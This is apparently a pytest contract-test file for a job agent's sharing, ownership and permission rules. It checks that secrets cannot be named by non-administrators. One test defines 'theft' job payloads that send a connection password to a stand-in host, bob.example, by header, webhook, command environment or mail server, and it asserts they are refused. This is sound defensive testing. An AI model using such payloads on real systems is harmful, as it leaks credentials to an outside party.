"""Sharing: who may say what of whom, what a level lets one do, and what a job may use."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from agent.core.permissions.callers import EVERY_SCOPE, Caller
from agent.core.records import Outcome
from shared.models import ConnectionInput, JobInput, SecretInput
from tests.contract.api.people import EVERYTHING, People, Person, a_job, definition, share
from tests.contract.store.making import fence
from tests.harness.agent import RunningAgent


async def test_a_share_is_made_changed_listed_and_taken_back(agent: RunningAgent, ada: Person, bob: Person) -> None:
    job = await a_job(agent, ada)
    path = f"/api/jobs/{job.id}"
    made = await share(agent, ada, path, "bob", "reader")
    assert (made.status_code, made.json()["principalId"], made.json()["principalName"]) == (201, bob.id, "bob")
    again = await share(agent, ada, path, bob.id, "runner")
    assert (again.status_code, again.json()["accessLevel"], again.json()["grantedBy"]) == (200, "runner", "ada")
    async with bob.client(agent) as client:
        listed = (await client.get(f"{path}/shares")).json()["items"]
        assert [(share["principalName"], share["accessLevel"]) for share in listed] == [("bob", "runner")]
        assert (await client.post(path)).status_code == 202
    async with ada.client(agent) as client:
        assert (await client.delete(f"{path}/shares/bob")).status_code == 204
        assert (await client.delete(f"{path}/shares/bob")).status_code == 404
    async with bob.client(agent) as client:
        assert (await client.get(path)).status_code == 404
        assert (await client.get("/api/runs")).json()["items"] == []


async def test_everyone_is_every_user_of_the_account_and_nobody_elses(
    agent: RunningAgent, ada: Person, bob: Person, people: People
) -> None:
    job = await a_job(agent, ada)
    assert (await share(agent, ada, f"/api/jobs/{job.id}", "everyone", "reader")).status_code == 201
    async with bob.client(agent) as client:
        assert (await client.get(f"/api/jobs/{job.id}")).status_code == 200
        assert [each["id"] for each in (await client.get("/api/jobs")).json()["_embedded"]["inf:job"]] == [job.id]
    async with agent.local() as local:
        await local.post("/api/accounts", json={"id": "other"})
    eve = await people.make("eve", account="other")
    async with eve.client(agent) as client:
        assert (await client.get(f"/api/jobs/{job.id}")).status_code == 404
        assert (await client.get("/api/jobs")).json()["total"] == 0


async def test_of_two_shares_the_higher_one_counts(agent: RunningAgent, ada: Person, bob: Person) -> None:
    job = await a_job(agent, ada)
    path = f"/api/jobs/{job.id}"
    await share(agent, ada, path, "everyone", "reader")
    await share(agent, ada, path, "bob", "editor")
    async with bob.client(agent) as client:
        assert (await client.post(f"{path}/_pause")).status_code == 200
        assert (await client.delete(path)).status_code == 403


@pytest.mark.parametrize("principal", ["nobody-of-that-name", "eve"])
async def test_a_principal_that_is_no_user_of_the_account_is_refused_by_field(
    agent: RunningAgent, ada: Person, people: People, principal: str
) -> None:
    async with agent.local() as local:
        await local.post("/api/accounts", json={"id": "other"})
    await people.make("eve", account="other")
    job = await a_job(agent, ada)
    refused = await share(agent, ada, f"/api/jobs/{job.id}", principal, "reader")
    assert refused.status_code == 400
    [fault] = refused.json()["error"]["faults"]
    assert (fault["field"], fault["value"]) == ("principalId", principal)
    assert "everyone" in fault["message"]


async def test_a_manager_shares_and_whoever_lacks_code_edits_no_program(
    agent: RunningAgent, ada: Person, bob: Person, people: People
) -> None:
    async with ada.client(agent) as client:
        program = {"name": "Prune", "type": "command", "data": {"command": ["true"]}}
        job = (await client.post("/api/jobs", json=program)).json()
    path = f"/api/jobs/{job['id']}"
    await share(agent, ada, path, "bob", "manager")
    assert (await share(agent, bob, path, "everyone", "reader")).status_code == 201
    harmless = await people.known("bob", bob.id, "read", "edit", "run", "delete")
    async with harmless.client(agent) as client:
        for refused in (
            await client.put(path, json={**program, "data": {"command": ["rm"]}}),
            await client.put(path, json=definition("Prune")),
        ):
            assert refused.status_code == 403
            assert "code" in refused.json()["error"]["message"]
        assert (await client.post(path)).status_code == 202


async def test_nobody_is_called_everyone(agent: RunningAgent) -> None:
    async with agent.local() as local:
        refused = await local.post("/api/users", json={"handle": "Everyone"})
    assert refused.status_code == 400
    assert refused.json()["error"]["faults"][0]["field"] == "handle"


async def test_an_older_revision_is_an_editors_to_start_again(agent: RunningAgent, ada: Person, bob: Person) -> None:
    job = await a_job(agent, ada)
    path, store, now = f"/api/jobs/{job.id}", agent.core.store, agent.clock.now()
    async with ada.client(agent) as client:
        run = (await client.post(path)).json()["id"]
    (claimed,) = await store.claim(["w"], "agent", now + timedelta(minutes=1), now)
    await store.finish([Outcome(fence(claimed), "completed", now)], now)
    rerun = f"/api/runs/{run}/_rerun"
    await share(agent, ada, path, "bob", "runner")
    async with bob.client(agent) as client:
        same = await client.post(rerun, json={"ownRevision": True})
        assert (same.status_code, same.json()["revision"]) == (201, 1), "it is what the job is"
        async with ada.client(agent) as owner:
            assert (await owner.put(path, json=definition(description="safe now"))).status_code == 200
        refused = await client.post(rerun, json={"ownRevision": True})
        assert refused.status_code == 403
        assert "as editor" in refused.json()["error"]["message"]
        bulk = {"act": "rerun", "runs": [{"id": run}], "ownRevision": True}
        [item] = (await client.post("/api/runs/_bulk", json=bulk)).json()["items"]
        assert (item["ok"], item["error"]["code"]) == (False, "forbidden")
        assert (await client.post(rerun, json={})).json()["revision"] == 2
        await share(agent, ada, path, "bob", "editor")
        assert (await client.post(rerun, json={"ownRevision": True})).json()["revision"] == 1


async def test_what_is_given_to_another_is_the_others(
    agent: RunningAgent, ada: Person, bob: Person, people: People
) -> None:
    boss = await people.make("boss", *EVERYTHING, "admin", role="admin")
    async with ada.client(agent) as client:
        made = (await client.post("/api/datasets", json={"name": "orders"})).json()["id"]
        assert (await client.put(f"/api/datasets/{made}/visibility", json={"visibility": "private"})).status_code == 204
        refused = await client.put(f"/api/datasets/{made}/owner", json={"ownerId": "bob"})
        assert refused.status_code == 403, "what its owner may use, jobs use through it: that is not ada's to give"
    async with boss.client(agent) as client:
        unknown = await client.put(f"/api/datasets/{made}/owner", json={"ownerId": "nobody"})
        assert unknown.json()["error"]["faults"][0]["field"] == "ownerId"
        assert (await client.put(f"/api/datasets/{made}/owner", json={"ownerId": "bob"})).status_code == 204
    async with ada.client(agent) as client:
        assert (await client.get(f"/api/datasets/{made}")).status_code == 404
    async with bob.client(agent) as client:
        assert (await client.delete(f"/api/datasets/{made}")).status_code == 204


async def test_a_job_is_given_with_its_shares_runs_and_drafts(
    agent: RunningAgent, ada: Person, bob: Person, people: People
) -> None:
    eve, boss = await people.make("eve"), await people.make("boss", *EVERYTHING, "admin", role="admin")
    job = await a_job(agent, ada, "Orders")
    path = f"/api/jobs/{job.id}"
    await share(agent, ada, path, "eve", "editor")
    async with ada.client(agent) as client, bob.client(agent) as other, eve.client(agent) as editor:
        drafted = (await editor.post(f"{path}/_edit")).json()["id"]
        before = (await client.post(path)).json()
        for owner, words in (("nobody", "no user of this account"), ("bob", "share it with that user first")):
            refused = await client.put(f"{path}/owner", json={"ownerId": owner})
            [fault] = refused.json()["error"]["faults"]
            assert (refused.status_code, fault["field"], fault["value"]) == (400, "ownerId", owner)
            assert words in fault["message"]
        await share(agent, ada, path, "bob", "reader")
        given = await client.put(f"{path}/owner", json={"ownerId": "bob"})
        assert given.status_code == 200, given.text
        assert (given.json()["ownerId"], given.json()["naturalId"]) == (bob.id, "bob:orders")
        assert (given.json()["revision"], given.json()["version"]) == (job.revision, job.version)
        assert (await client.get(path)).status_code == 404
        assert (await client.get("/api/jobs")).json()["total"] == 0
        assert (await other.get("/api/jobs/bob:orders")).json()["id"] == job.id
        assert (await other.get("/api/runs")).json()["items"][0]["ownerId"] == before["ownerId"] == ada.id
        assert (await other.post(path)).json()["ownerId"] == bob.id
        assert {each["principalName"] for each in (await other.get(f"{path}/shares")).json()["items"]} == {"bob", "eve"}
        await editor.put(f"/api/jobs/{drafted}", json=definition(description="still mine"))
        assert (await editor.post(f"{path}/_commit")).json()["revision"] == 2
    async with boss.client(agent) as client:
        record = (await client.get("/api/audit?act=put_job_owner&outcome=done")).json()["items"]
        assert {(each["event"], each["handle"], each["subjectId"]) for each in record} == {
            (event, "ada", job.id) for event in ("share.changed", "job.changed")
        }
        assert (await client.put(f"{path}/owner", json={"ownerId": "ada"})).status_code == 200, "who never saw it"
        disabled = await client.post("/api/users/eve/_disable")
        assert disabled.is_success, disabled.text
        refused = await client.put(f"{path}/owner", json={"ownerId": "eve"})
        assert "is disabled" in refused.json()["error"]["faults"][0]["message"]


async def test_a_job_is_given_to_whom_may_use_what_it_names(
    world: RunningAgent, agent: RunningAgent, ada: Person, bob: Person, people: People
) -> None:
    boss = await people.make("boss", *EVERYTHING, "admin", role="admin")
    source = await _private_source(agent, ada, world)
    async with ada.client(agent) as owner, boss.client(agent) as client:
        made = await owner.post("/api/jobs", json=_sync())
        assert made.status_code == 201, made.text
        path = f"/api/jobs/{made.json()['id']}"
        refused = await client.put(f"{path}/owner", json={"ownerId": "bob"})
        [fault] = refused.json()["error"]["faults"]
        assert (refused.status_code, fault["field"]) == (400, "data.source_table")
        assert "share it with 'bob' as runner" in fault["message"]
        await share(agent, ada, f"/api/connections/{source}", "bob", "runner")
        assert (await client.put(f"{path}/owner", json={"ownerId": "bob"})).status_code == 200
        # Who gives away must be allowed to use it still: else what was taken from one would run on as another's.
        assert (await client.put(f"{path}/owner", json={"ownerId": "ada"})).status_code == 200
        await share(agent, ada, path, "boss", "reader")
        assert (await client.put(f"/api/connections/{source}/owner", json={"ownerId": "bob"})).status_code == 204
        taken = await owner.put(f"{path}/owner", json={"ownerId": "boss"})
        assert (taken.status_code, taken.json()["error"]["faults"][0]["field"]) == (400, "data.source_table")


async def test_what_runs_programs_is_given_by_whom_may_make_it(agent: RunningAgent, ada: Person, bob: Person) -> None:
    job = await a_job(agent, ada, type="command", data={"command": ["true"]})
    await share(agent, ada, f"/api/jobs/{job.id}", "bob", "reader")
    plain = await People(agent).known("ada", ada.id, "read", "edit")
    async with plain.client(agent) as client:
        refused = await client.put(f"/api/jobs/{job.id}/owner", json={"ownerId": "bob"})
    assert (refused.status_code, "code" in refused.text) == (403, True)


# -- what a job may use ------------------------------------------------------------------------------------------------


async def _private_source(agent: RunningAgent, owner: Person, world: RunningAgent) -> str:
    """The world's connection, made private to that user."""
    caller = Caller("default", owner.id, owner.handle, EVERY_SCOPE, "token")
    source = (await world.core.world.list_connections(world.core.gate.local()))[0]
    made = await agent.core.world.create_connection(caller, ConnectionInput(name="private_db", url=source.url))
    await agent.core.shares.set_visibility(caller, "connection", made.id, "private")
    return str(made.id)


def _sync(**fields: Any) -> dict[str, Any]:
    data = {
        "source_table": "private_db.orders",
        "knowledge_base": "orders_kb",
        "content_columns": ["product"],
        "filter_column": "created_at",
    }
    return JobInput(name="Sync", type="kb-sync", data=data, **fields).model_dump(mode="json", by_alias=True)


async def test_who_may_not_see_a_connection_cannot_name_it(
    world: RunningAgent, ada: Person, bob: Person, agent: RunningAgent
) -> None:
    source = await _private_source(agent, ada, world)
    async with bob.client(agent) as client:
        assert (await client.get(f"/api/connections/{source}")).status_code == 404
        assert [each["name"] for each in (await client.get("/api/connections")).json()["items"]] == ["orders_db"]
        refused = (await client.post("/api/jobs", json=_sync())).json()["error"]
    [fault] = refused["faults"]
    assert fault["field"] == "data.source_table"
    assert fault["message"] == "there is no connection 'private_db'; there are: orders_db"
    await share(agent, ada, f"/api/connections/{source}", "bob", "reader")
    async with bob.client(agent) as client:
        assert (await client.post(f"/api/connections/{source}/_test")).json()["ok"] is True
        refused = (await client.post("/api/jobs", json=_sync())).json()["error"]
        assert "shared with you as runner" in refused["faults"][0]["message"]
    await share(agent, ada, f"/api/connections/{source}", "bob", "runner")
    async with bob.client(agent) as client:
        assert (await client.post("/api/jobs", json=_sync())).status_code == 201


async def test_an_editor_may_change_all_but_what_somebody_elses_job_uses(
    world: RunningAgent, ada: Person, bob: Person, agent: RunningAgent
) -> None:
    source = await _private_source(agent, ada, world)
    async with ada.client(agent) as client:
        job = (await client.post("/api/jobs", json=_sync())).json()
    path = f"/api/jobs/{job['id']}"
    await share(agent, ada, path, "bob", "editor")
    async with bob.client(agent) as client:
        assert (await client.put(path, json=_sync(description="by bob"))).status_code == 200
        wider = _sync()
        wider["data"]["content_columns"] = ["product", "description"]
        assert (await client.put(path, json=wider)).status_code == 400
        draft = (await client.post(f"{path}/_edit")).json()
        await client.put(f"/api/jobs/{draft['id']}", json=_sync(description="by draft"))
        assert (await client.post(f"{path}/_commit")).status_code == 200
    await share(agent, ada, f"/api/connections/{source}", "bob", "runner")
    async with bob.client(agent) as client:
        assert (await client.put(path, json=wider)).status_code == 200


async def test_a_run_acts_as_its_jobs_owner(world: RunningAgent, ada: Person, bob: Person, agent: RunningAgent) -> None:
    """An administrator cannot give somebody's job what its owner may not use."""
    await _private_source(agent, ada, world)
    job = await a_job(agent, bob)
    async with agent.local() as local:
        refused = await local.put(f"/api/jobs/{job.id}", json=_sync())
        assert refused.status_code == 400
        assert "share it with the job's owner as runner" in refused.json()["error"]["faults"][0]["message"]
        assert (await local.post("/api/jobs", json=_sync())).status_code == 201


async def test_a_token_says_what_its_administrator_may_use_by_it(
    world: RunningAgent, ada: Person, people: People, agent: RunningAgent
) -> None:
    """Without the scope `admin` it reaches no further than anybody's: what it cannot list it cannot name."""
    await _private_source(agent, ada, world)
    boss = await people.make("boss", *EVERYTHING, role="admin")
    async with boss.client(agent) as client:
        refused = (await client.post("/api/jobs", json=_sync())).json()["error"]
    assert refused["faults"][0]["message"] == "there is no connection 'private_db'; there are: orders_db"
    whole = await people.known("boss", boss.id, *EVERYTHING, "admin")
    async with whole.client(agent) as client:
        assert (await client.post("/api/jobs", json=_sync())).status_code == 201


@pytest.mark.parametrize("secret", ["connection-warehouse", "warehouse-password"])
async def test_what_opens_a_connection_is_sent_nowhere_else(
    agent: RunningAgent, bob: Person, people: People, secret: str
) -> None:
    """Whoever may have queries run over a connection does not learn its password by a header, a mail or a program."""
    local = agent.core.gate.local()
    await agent.core.secrets.put(local, "warehouse-password", SecretInput(value="hush"))
    for name, given in (("warehouse", None), ("reports", "warehouse-password")):
        url = f"postgresql://reader{'' if given else ':hush'}@db.example/{name}"
        await agent.core.world.create_connection(local, ConnectionInput(name=name, url=url, secret_name=given))
    header = {"headers": {"X-Stolen": {"secret": secret}}}
    mail = {"to": "bob@example.org", "subject": "s", "text": "t", "server": {
        "host": "bob.example", "user": "u", "secret": secret, "from": "bob@example.org",
    }}  # fmt: skip
    thefts: list[dict[str, Any]] = [
        {"data": {"url": "https://bob.example/", **header}},
        {"type": "command", "data": {"command": ["env"], "env": {"KEY": {"secret": secret}}}},
        {"actions": [{"id": "a", "type": "webhook", "data": {"url": "https://bob.example/", **header}}]},
        {"actions": [{"id": "a", "type": "email", "data": mail}]},
    ]
    async with bob.client(agent) as client:
        for theft in thefts:
            refused = await client.post("/api/jobs", json={**definition("Theft"), **theft})
            assert refused.status_code == 400, refused.text
            [fault] = refused.json()["error"]["faults"]
            assert fault["value"] == secret
            assert "only administrators name it" in fault["message"]
    boss = await people.make("boss", *EVERYTHING, "admin", role="admin")
    async with boss.client(agent) as client:
        for number, known in enumerate(thefts):
            made = await client.post("/api/jobs", json={**definition(f"Known {number}"), **known})
            assert made.status_code == 201, made.text


async def test_a_dataset_reaches_what_its_owner_may_use_now(
    world: RunningAgent, ada: Person, bob: Person, agent: RunningAgent
) -> None:
    """Whoever had a connection, and has it no more, has it by no dataset either."""
    source = await _private_source(agent, ada, world)
    await share(agent, ada, f"/api/connections/{source}", "bob", "runner")
    async with bob.client(agent) as client:
        given = {"name": "orders", "connection": "private_db", "query": "select * from orders"}
        assert (await client.post("/api/datasets", json=given)).status_code == 201
        refresh = {"type": "dataset-refresh", "data": {"dataset": "orders"}}
        assert (await client.post("/api/jobs", json={"name": "Before", **refresh})).status_code == 201
    async with ada.client(agent) as client:
        assert (await client.delete(f"/api/connections/{source}/shares/bob")).status_code == 204
    async with bob.client(agent) as client:
        refused = await client.post("/api/jobs", json={"name": "After", **refresh})
        assert refused.status_code == 400
        assert "share it with the owner of the dataset 'orders'" in refused.json()["error"]["faults"][0]["message"]


async def test_a_draft_outlives_a_share_and_tells_nothing_more_by_previews(
    agent: RunningAgent, ada: Person, bob: Person
) -> None:
    mail = {"to": "a@example.org", "subject": "{{ results.main.told }}", "text": "t", "server": {
        "host": "mail.example.org", "from": "bob@example.org",
    }}  # fmt: skip
    job = await a_job(agent, ada, actions=[{"id": "tell", "type": "email", "data": mail}])
    path = f"/api/jobs/{job.id}"
    await share(agent, ada, path, "bob", "editor")
    store, now = agent.core.store, agent.clock.now()
    async with ada.client(agent) as client:
        run = (await client.post(path)).json()["id"]
    (claimed,) = await store.claim(["w"], "agent", now + timedelta(minutes=1), now)
    await store.finish([Outcome(fence(claimed), "completed", now, result={"told": "confidential"})], now)
    async with bob.client(agent) as client:
        draft = (await client.post(f"{path}/_edit")).json()["id"]
        preview = f"/api/jobs/{draft}/actions/tell/_preview"
        before = (await client.post(preview)).json()
        assert (before["basedOnRunId"], before["would"]["subject"]) == (run, "confidential")
        async with ada.client(agent) as owner:
            assert (await owner.delete(f"{path}/shares/bob")).status_code == 204
        after = await client.post(preview)
        assert (after.status_code, after.json()["basedOnRunId"]) == (200, None)
        assert "confidential" not in after.text
